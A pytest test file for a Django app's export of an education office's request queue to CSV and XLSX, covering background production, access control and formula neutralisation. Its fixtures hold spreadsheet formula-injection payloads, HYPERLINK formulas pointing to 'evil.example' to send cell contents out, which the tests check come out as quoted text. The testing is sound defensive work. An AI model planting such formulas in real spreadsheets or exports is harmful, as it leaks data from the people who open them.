"""The office's queue export beyond EXPORT_SYNC_MAX_ROWS: produced in the background, with
its page, its notice and the same rows as the file answered at once."""

import csv
import datetime
import io
import zipfile

import openpyxl
import pytest
from django.urls import reverse

from accounts.models import Role, RoleMembership
from exports.models import Export
from notifications.models import Message
from requests import exports, state_counts
from requests.models import AntRequest, State
from tests.factories import CampaignFactory, EtablissementFactory, ant_request, user_with_role

PAYLOAD = '=HYPERLINK("http://evil.example/steal?d="&A1,"Cliquez")'
SUBMITTED = datetime.datetime(2020, 6, 20, 10, 0, tzinfo=datetime.UTC)


@pytest.fixture(autouse=True)
def _media_root(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


@pytest.fixture
def campaign(academie):
    return CampaignFactory(academie=academie)


def endorsed_request(campaign, school, title, coordinator_name=None, **fields):
    names = {"full_name": coordinator_name} if coordinator_name else {}
    coordinator = user_with_role(Role.ENSEIGNANT, etablissement=school, **names)
    ant = ant_request(campaign=campaign, coordinator=coordinator, school=school, title=title)
    values = {
        "state": State.ENDORSED,
        "submitted_at": SUBMITTED,
        "endorsed_at": SUBMITTED + datetime.timedelta(days=2),
        **fields,
    }
    AntRequest.objects.filter(pk=ant.pk).update(**values)
    state_counts.record(academie_id=ant.academie_id, leaving=State.DRAFT, entering=values["state"])
    return AntRequest.objects.get(pk=ant.pk)


@pytest.fixture
def queue(campaign, school):
    """Five requests of the office's queue, one of them with a title typed as a formula."""
    return [
        endorsed_request(campaign, school, f"Projet {i}" if i != 2 else PAYLOAD) for i in range(5)
    ]


@pytest.fixture
def small_sync(settings):
    settings.EXPORT_SYNC_MAX_ROWS = 3


def export_url(fmt, **filters):
    return reverse("requests:queue_export", args=[fmt]), filters


def ask(client, django_capture_on_commit_callbacks, fmt, **filters):
    url, query = export_url(fmt, **filters)
    with django_capture_on_commit_callbacks(execute=True):
        return client.get(url, query)


def csv_file(export):
    with export.file.open("rb") as f:
        text = f.read().decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))


def xlsx_file(export):
    with export.file.open("rb") as f:
        return openpyxl.load_workbook(io.BytesIO(f.read())).active


# Beyond the limit: in the background -----------------------------------------------------------
def test_big_xlsx_export_is_produced_in_the_background_with_the_queue_rows(
    client, dafor, queue, small_sync, django_capture_on_commit_callbacks, mailoutbox
):
    client.force_login(dafor)

    response = ask(client, django_capture_on_commit_callbacks, "xlsx", tri="reference")

    export = Export.objects.get()
    assert response.status_code == 302
    assert response["Location"] == export.get_absolute_url()
    assert (export.owner, export.kind, export.format) == (dafor, "ant_queue", "xlsx")
    assert export.params["filters"] == {"tri": ["reference"]}
    assert export.status == Export.Status.DONE
    assert export.rows_done == export.rows_total == 5
    assert export.filename.startswith("demandes-ant-") and export.filename.endswith(".xlsx")
    sheet = xlsx_file(export)
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:4] == ("Référence", "Intitulé du projet", "Campagne", "État")
    assert [row[0] for row in rows[1:]] == sorted(ant.reference for ant in queue)
    assert rows[1][3] == "Visée par le chef d'établissement"
    assert rows[1][13] == datetime.datetime(2020, 6, 22)
    # The title typed as a formula is quoted text in the file, never a formula.
    cell = next(row[1] for row in sheet.iter_rows() if row[1].value == "'" + PAYLOAD)
    assert cell.data_type == "s"

    page = client.get(export.get_absolute_url())
    html = page.content.decode()
    assert "Votre fichier est prêt" in html
    assert "5 lignes sur 5" in html
    assert reverse("exports:download", args=[export.pk]) in html
    [notice] = Message.objects.filter(recipient=dafor, kind="export_ready")
    assert notice.url == export.get_absolute_url()
    assert [mail.to for mail in mailoutbox] == [[dafor.email]]
    download = client.get(reverse("exports:download", args=[export.pk]))
    assert download.status_code == 200
    assert download["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert b"".join(download.streaming_content).startswith(b"PK")  # a zip: the workbook


def test_big_csv_export_keeps_the_filters(
    client, dafor, queue, campaign, school, small_sync, django_capture_on_commit_callbacks
):
    endorsed_request(campaign, school, "En instruction", state=State.UNDER_REVIEW)
    client.force_login(dafor)

    ask(client, django_capture_on_commit_callbacks, "csv", state="endorsed", tri="reference")

    export = Export.objects.get()
    assert export.rows_total == 5
    rows = csv_file(export)
    assert rows[0][0] == "Référence"
    assert [row[0] for row in rows[1:]] == sorted(ant.reference for ant in queue)
    assert "En instruction" not in {row[1] for row in rows}
    assert "'" + PAYLOAD in {row[1] for row in rows}
    assert rows[1][13] == "22/06/2020"


def test_big_export_has_only_the_offices_own_academie(
    client,
    dafor,
    queue,
    other_academie,
    other_academie_dafor,
    small_sync,
    django_capture_on_commit_callbacks,
):
    other_school = EtablissementFactory(academie=other_academie)
    other_campaign = CampaignFactory(academie=other_academie)
    theirs = [endorsed_request(other_campaign, other_school, f"Lorrain {i}") for i in range(4)]
    client.force_login(other_academie_dafor)

    ask(client, django_capture_on_commit_callbacks, "csv", tri="reference")

    export = Export.objects.get()
    assert export.owner == other_academie_dafor
    assert [row[0] for row in csv_file(export)[1:]] == sorted(a.reference for a in theirs)


def test_up_to_the_limit_the_file_is_the_answer(client, dafor, queue, settings):
    settings.EXPORT_SYNC_MAX_ROWS = 5
    client.force_login(dafor)

    response = client.get(reverse("requests:queue_export", args=["csv"]))

    assert response.status_code == 200
    assert response.streaming
    assert not Export.objects.exists()
    text = b"".join(response.streaming_content).decode("utf-8")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    assert len(rows) == 6
    assert "'" + PAYLOAD in {row[1] for row in rows}


def test_xlsx_answered_at_once_has_the_formula_as_text(client, dafor, queue):
    client.force_login(dafor)

    response = client.get(reverse("requests:queue_export", args=["xlsx"]))

    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cell = next(row[1] for row in sheet.iter_rows() if row[1].value == "'" + PAYLOAD)
    assert cell.data_type == "s"
    assert not Export.objects.exists()


def test_office_role_lost_before_production_fails_the_export_and_tells_the_owner(
    client, dafor, queue, small_sync, django_capture_on_commit_callbacks
):
    client.force_login(dafor)
    url, query = export_url("xlsx")
    with django_capture_on_commit_callbacks() as callbacks:
        client.get(url, query)
    RoleMembership.objects.filter(user=dafor, role=Role.DAFOR).delete()

    for callback in callbacks:
        callback()

    export = Export.objects.get()
    assert export.status == Export.Status.FAILED
    assert not export.file
    assert Message.objects.get(recipient=dafor).kind == "export_failed"


@pytest.mark.parametrize("who", ["teacher", "head", "other_academie_dafor"])
def test_the_offices_export_page_is_404_for_others(
    client, request, dafor, queue, small_sync, django_capture_on_commit_callbacks, who
):
    client.force_login(dafor)
    ask(client, django_capture_on_commit_callbacks, "csv")
    export = Export.objects.get()

    client.force_login(request.getfixturevalue(who))

    assert client.get(export.get_absolute_url()).status_code == 404
    assert client.get(reverse("exports:download", args=[export.pk])).status_code == 404


@pytest.mark.parametrize("who", ["teacher", "head"])
def test_only_the_office_starts_an_export(client, request, queue, small_sync, who):
    client.force_login(request.getfixturevalue(who))
    assert client.get(reverse("requests:queue_export", args=["xlsx"])).status_code == 404
    assert not Export.objects.exists()


# The rows --------------------------------------------------------------------------------------
def test_queue_rows_are_read_in_one_query(dafor, queue, academie, django_assert_num_queries):
    queryset = exports.queue_queryset({academie.pk}, {})
    with django_assert_num_queries(1):
        rows = list(exports.queue_rows(queryset))
    assert len(rows) == 5


# Text typed by a team, a school import or a user that would start a formula ------------------
# OWASP's starts (ASVS 1.2.10), the line feed, and the full-width signs.
FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"]
TYPED_COLUMNS = {"title": 1, "school": 6, "theme": 9, "coordinator": 10}


def typed(start, column):
    return f'{start}HYPERLINK("http://evil.example/{column}?d="&A1,"Cliquez")'


@pytest.fixture
def formula_requests(campaign, academie):
    """One request of the queue per formula start, its title, coordinating school's name,
    team's own theme and coordinator's name all typed as that formula."""
    for start in FORMULA_STARTS:
        school = EtablissementFactory(academie=academie, name=typed(start, "school"))
        endorsed_request(
            campaign,
            school,
            typed(start, "title"),
            coordinator_name=typed(start, "coordinator"),
            own_theme=typed(start, "theme"),
            theme=None,
        )


def exported_rows(client, fmt):
    response = client.get(reverse("requests:queue_export", args=[fmt]))
    assert response.status_code == 200
    if fmt == "csv":
        text = b"".join(response.streaming_content).decode("utf-8")
        return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""), delimiter=";"))
    data = response.content
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml  # not one formula in the sheet
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    for row in sheet.iter_rows():
        for column in TYPED_COLUMNS.values():
            assert row[column].data_type == "s"
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_typed_formulas_come_out_of_the_offices_export_neutralised(
    client, dafor, formula_requests, fmt
):
    client.force_login(dafor)

    rows = exported_rows(client, fmt)

    exported = {tuple(row[i] for i in TYPED_COLUMNS.values()) for row in rows[1:]}
    assert exported == {
        tuple("'" + typed(start, column) for column in TYPED_COLUMNS) for start in FORMULA_STARTS
    }
